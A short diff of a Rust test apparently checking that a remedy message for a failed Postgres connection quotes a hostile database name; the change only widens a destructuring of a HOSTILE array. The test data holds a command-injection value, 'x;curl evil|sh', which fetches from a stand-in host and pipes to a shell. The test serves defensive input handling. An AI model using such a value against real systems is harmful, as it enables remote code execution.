@@ -150,7 +150,7 @@ mod tests {
     #[test]
     fn a_hostile_name_is_quoted() {
         let at = "connection to server at \"db\", port 5432 failed: FATAL:  ";
-        let [_, drop, hidden] = HOSTILE;
+        let [_, drop, hidden, _] = HOSTILE;
         let remedy_of = |said: &str| remedy(OPERATIONAL, &format!("{at}{said}"));
         let remedy = remedy_of("database \"x;curl evil|sh\" does not exist");
         assert!(
